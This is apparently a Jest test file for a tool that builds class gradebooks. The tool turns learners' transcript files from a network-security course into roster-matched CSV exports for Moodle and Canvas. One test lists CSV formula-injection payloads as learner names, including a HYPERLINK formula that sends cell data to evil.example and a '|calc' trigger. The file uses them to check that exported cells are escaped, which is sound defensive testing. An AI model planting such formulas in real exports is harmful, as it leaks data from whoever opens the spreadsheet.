import { describe, expect, it } from '@jest/globals';
import papaparse from 'papaparse';
import { fullTranscript, ISSUED } from '../../../../testing/transcripts.ts';
import { REFUSALS } from '../texts.ts';
import { canvasRows, csvOf, leftOut, moodleRows, readRoster, toCsv } from './class-csv.ts';
import { type ClassFile, classOf, sortLearners } from './class-rows.ts';

type Changes = Parameters<typeof fullTranscript>[0];

const genuine = (changes: Changes, name = 'file.json'): ClassFile => ({
  name,
  checked: { isGenuine: true, transcript: fullTranscript(changes), kid: 'k' },
});
const refused = (name: string): ClassFile => ({
  name,
  checked: { isGenuine: false, refusal: 'altered' },
});

/** A level in which less was done. */
function partly(level: string, verified: number, score: number | null) {
  return fullTranscript().levels.map((each) =>
    each.level === level
      ? {
          ...each,
          verified: each.verified.slice(0, verified),
          quiz: each.quiz && score !== null ? { ...each.quiz, score } : null,
        }
      : each,
  );
}

const namesOf = (learners: readonly { name: string }[]) => learners.map(({ name }) => name);

const DRAWN = '2.3+q+p.c2~20261122T1300~Europe/Madrid~NW-2B';
/** Handed in by somebody, as a number of the class. */
const handedIn = (as: string, changes: Changes = {}, name = `${as}.json`) =>
  genuine({ assignment: DRAWN, as, ...changes }, name);

it('of several files of one learner counts the newest, and all of them are listed', () => {
  const older = genuine({ sub: 'ada', iat: ISSUED, name: 'Ada' }, 'older.json');
  const newer = genuine({ sub: 'ada', iat: ISSUED + 60, name: 'Ada B' }, 'newer.json');
  for (const files of [
    [older, newer],
    [newer, older],
  ]) {
    const { learners } = classOf(files);
    expect(namesOf(learners)).toEqual(['Ada B']);
    expect(learners[0]?.files.map(({ name }) => name)).toEqual(['newer.json', 'older.json']);
  }
});

it('keeps two learners of one name apart, and marks a number that was given twice', () => {
  const files = [handedIn('07', { name: 'Kim' }), handedIn('7', { name: 'Kim' }), handedIn('8')];
  const { learners } = classOf(files);
  expect(learners.map(({ isTwice }) => isTwice)).toEqual([true, true, false]);
});

it('lists a refused or unreadable file by its path and says why', () => {
  const inside = { ...refused('ines.json'), folder: 'class.zip/Fonseca_4711' };
  const { learners, refused: list } = classOf([inside, { name: 'dir' }]);
  expect(learners).toEqual([]);
  expect(list).toEqual([
    { name: 'class.zip/Fonseca_4711/ines.json', why: REFUSALS.altered },
    { name: 'dir', why: 'The file could not be read.' },
  ]);
});

it('tells what was replayed from what was only saved', () => {
  const levels = fullTranscript().levels.map((level) =>
    level.level === '2'
      ? { ...level, verified: [], quiz: null, proofs: { of: 2, found: [] } }
      : level.level === '3'
        ? { ...level, actions: [], verified: [], quiz: null, proofs: { of: 1, found: [] } }
        : level,
  );
  const [learner] = classOf([genuine({ levels, challenges: [] })]).learners;
  expect(learner?.cells.slice(0, 3).map(({ state }) => state)).toEqual([
    'verified',
    'saved',
    'none',
  ]);
});

it('shows what the assignment asks for, who is late by its clock, and sets other files apart', () => {
  const plain = genuine({ name: 'Plain' }, 'plain.json');
  const other = handedIn('9', { assignment: '4~~~NW-2B' });
  // The end is 13:00 in Madrid, an hour ahead of UTC.
  const record = classOf([
    handedIn('1', { iat: ISSUED + 59 }),
    handedIn('2', { iat: ISSUED + 60 }),
    other,
    plain,
  ]);
  expect(record.assignment?.code).toBe('NW-2B');
  expect(record.learners.map(({ isLate }) => isLate)).toEqual([false, true]);
  expect(record.learners[0]?.cells.map(({ level }) => level.level)).toEqual(['2', '3']);
  expect(record.others.map(({ name }) => name)).toEqual(['9.json', 'plain.json']);
});

it('knows by the list of the class who is missing', () => {
  const roster = readRoster('E-mail;Name;No.\nines@x.org;Fonseca, Inês;06\nk@x.org;Kim;14\n');
  const { learners, missing } = classOf([handedIn('6', { name: 'ines' })], roster);
  expect(learners[0]).toMatchObject({ number: '06', name: 'Fonseca, Inês', email: 'ines@x.org' });
  expect(missing.map(({ number }) => number)).toEqual(['14']);
});

it('believes the number before a name that several have', () => {
  const roster = readRoster('No.,Name\n1,Kim Lee\n2,Kim Lee\n3,Ada');
  const files = [handedIn('2', { name: 'Kim Lee' }), handedIn('Kim Lee', { name: 'Ada' })];
  const { learners, missing } = classOf(files, roster);
  expect(learners.map(({ number }) => number)).toEqual(['2', '3']);
  expect(missing.map(({ number }) => number)).toEqual(['1']);
});

it('finds somebody on the list by the name too, whichever part stands first', () => {
  const roster = readRoster('Name,Email\n"Fonseca, Inês",ines@x.org');
  const { learners, missing } = classOf([genuine({ name: 'Ines Fonseca' })], roster);
  expect([learners[0]?.email, missing]).toEqual(['ines@x.org', []]);
});

it.each([
  ['1,Ada,ada@x.org\n2,Zoe,zoe@x.org'],
  ['ada@x.org,1,Ada\nzoe@x.org,2,Zoe'],
  ['Student ID,First name,Email address\n1,Ada,ada@x.org\n2,Zoe,zoe@x.org'],
  ['Username,First name,Email address,ID number\nada77,Ada,ada@x.org,1\nzoe77,Zoe,zoe@x.org,2'],
  [
    'Student,ID,SIS User ID,SIS Login ID,Section\n    Points Possible,,,,\n' +
      'Ada,4001,1,ada@x.org,B\nZoe,4002,2,zoe@x.org,B',
  ],
])('reads a list of the class: %j', (text) => {
  expect(readRoster(text)).toEqual([
    { number: '1', name: 'Ada', email: 'ada@x.org' },
    { number: '2', name: 'Zoe', email: 'zoe@x.org' },
  ]);
});

it('leaves open how a challenge was solved where a transcript from before does not say it', () => {
  const [learner] = read(csvOfFiles(genuine({ challenges: [{ level: '2', on: '2026-11-22' }] })));
  expect(learner).toMatchObject({
    '2 Firewall: challenge solved': 'yes',
    '2 Firewall: challenge on try': '',
    '2 Firewall: solution shown before': '',
  });
});

it('says nothing of proofs where a transcript from before knows none', () => {
  const levels = fullTranscript().levels.map(({ proofs: _, ...level }) => level);
  const [learner] = read(csvOfFiles(genuine({ levels })));
  expect(learner).toMatchObject({ '2 Firewall: proofs found': '', '2 Firewall: replayed': '6' });
});

it('sorts by family name as people do, by number, by level and by time', () => {
  const { learners } = classOf([
    genuine({ name: 'Ada Zoé', as: '10', iat: ISSUED, levels: partly('2', 1, 6) }),
    genuine({ name: 'Zoe Émile', as: '9', iat: ISSUED + 2, levels: partly('2', 6, null) }),
    genuine({ name: 'Fonseca, Inês', as: '1', iat: ISSUED + 1 }),
  ]);
  const sorted = (
    ...how: Parameters<typeof sortLearners> extends [unknown, ...infer R] ? R : never
  ) => sortLearners(learners, ...how).map(({ number }) => number);
  expect(sorted('name', false)).toEqual(['9', '1', '10']);
  expect(sorted('number', true)).toEqual(['10', '9', '1']);
  expect(sorted(1, true)).toEqual(['1', '9', '10']);
  expect(sorted('last', false)).toEqual(['10', '1', '9']);
});

describe('a gradebook', () => {
  const roster = readRoster('No.,Name,Email\n1,=Ada,ada@x.org');
  const levels = partly('2', 3, 3).map((level) =>
    level.level === '2' ? { ...level, proofs: { of: 2, found: [] } } : level,
  );
  const record = classOf([handedIn('1', { levels })], roster);

  it('has identifiers and a grade item for each task in per cent, for Moodle', () => {
    // Half of the actions, half of the quiz, no proof; weighed three, one and none.
    const [row] = moodleRows(record, { '2': 3, '3': 0 });
    expect(row).toEqual({
      'ID number': '1',
      'Email address': 'ada@x.org',
      Name: '=Ada',
      '2 Firewall': 33,
      '3 IDS': 94,
      'Challenge 2 Firewall': 100,
      'Netward NW-2B': 50,
    });
  });

  it('has only who is known, by columns that nobody leaves empty', () => {
    const files = ['1', '5', '7', '07'].map((as) => handedIn(as, { name: `N${as}` }));
    const some = classOf([...files, handedIn('')], roster);
    const rows = moodleRows(some, {});
    expect(rows.map((row) => [row['ID number'], 'Email address' in row])).toEqual([
      ['1', false],
      ['5', false],
    ]);
    expect(canvasRows(some, {}).map(({ Student }) => Student)).toEqual([
      'Points Possible',
      '=Ada',
      'N5',
      'Maja Lindqvist',
    ]);
    expect(leftOut(some)).toEqual([
      'Left out, since two gave the same number: N7, N07.',
      'Left out for Moodle, which knows people by number or e-mail: Maja Lindqvist.',
    ]);
    expect(leftOut(record)).toEqual([]);
  });

  it('has the columns and the first row that Canvas wants, no byte order mark and no formula', () => {
    const text = csvOf(canvasRows(record, {}));
    const [head, points, ada] = papaparse.parse<string[]>(text).data;
    expect(head?.slice(0, 5)).toEqual(['Student', 'ID', 'SIS User ID', 'SIS Login ID', 'Section']);
    expect(points).toEqual(['Points Possible', '', '', '', '', '100', '100', '100', '100']);
    expect(ada?.slice(0, 4)).toEqual(["'=Ada", '', '1', 'ada@x.org']);
  });
});

const csvOfFiles = (...files: ClassFile[]) => {
  const record = classOf(files);
  return toCsv(record.learners, record);
};
const read = (csv: string) =>
  papaparse.parse<Record<string, string>>(csv.replace('\uFEFF', ''), { header: true }).data;

it('exports one row a learner, with numbers of their own, and the refused files', () => {
  const csv = csvOfFiles(genuine({ name: 'Lindqvist, "Maja"' }), refused('forged.jws'));
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const [maja, forged, ...rest] = read(csv);
  expect(rest).toEqual([]);
  expect(maja).toMatchObject({
    Name: 'Lindqvist, "Maja"',
    Issued: '2026-11-22T12:00:00.000Z',
    File: 'file.json',
    '2 Firewall: replayed': '6',
    '2 Firewall: quiz': '5',
    '2 Firewall: quiz of': '6',
    '2 Firewall: proofs found': '2',
    '2 Firewall: proofs asked': '2',
    '2 Firewall: challenge solved': 'yes',
    '2 Firewall: challenge on try': '7',
    '2 Firewall: solution shown before': 'no',
    '3 IDS: solution shown before': 'yes',
    '2 Firewall: last done': '2026-11-22',
  });
  expect(forged).toMatchObject({ Name: 'forged.jws', Remark: `Not counted. ${REFUSALS.altered}` });
});

it.each([
  '=HYPERLINK("http://evil.example?"&A2,"click")',
  '=1+1\nsecond line',
  '+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '|calc',
  '%0A=1',
])('no cell of %j is a formula, whether it is a name or a file', (text) => {
  const cells = papaparse.parse<string[]>(csvOfFiles(genuine({ name: text }), refused(text)));
  const names = cells.data.slice(1).map(([name]) => name);
  expect(names).toEqual([`'${text}`, `'${text}`]);
});

it('no name reaches into the next cell, also where cells are parted by semicolons', () => {
  const name = 'Eva;=1+1';
  const csv = csvOfFiles(genuine({ name })).replace('\uFEFF', '');
  const [, learner] = papaparse.parse<string[]>(csv, { delimiter: ';' }).data;
  expect(learner).toHaveLength(1);
  expect(read(csv)[0]?.['Name']).toBe(name);
});

it('leaves ordinary names as they are', () => {
  const names = ['O’Brien', 'Jean-Luc', 'a=b', '李小龍', 'Ωmega', "d'Arc"];
  const rows = read(csvOfFiles(...names.map((name) => genuine({ name }))));
  expect(rows.map(({ Name }) => Name)).toEqual(names);
});
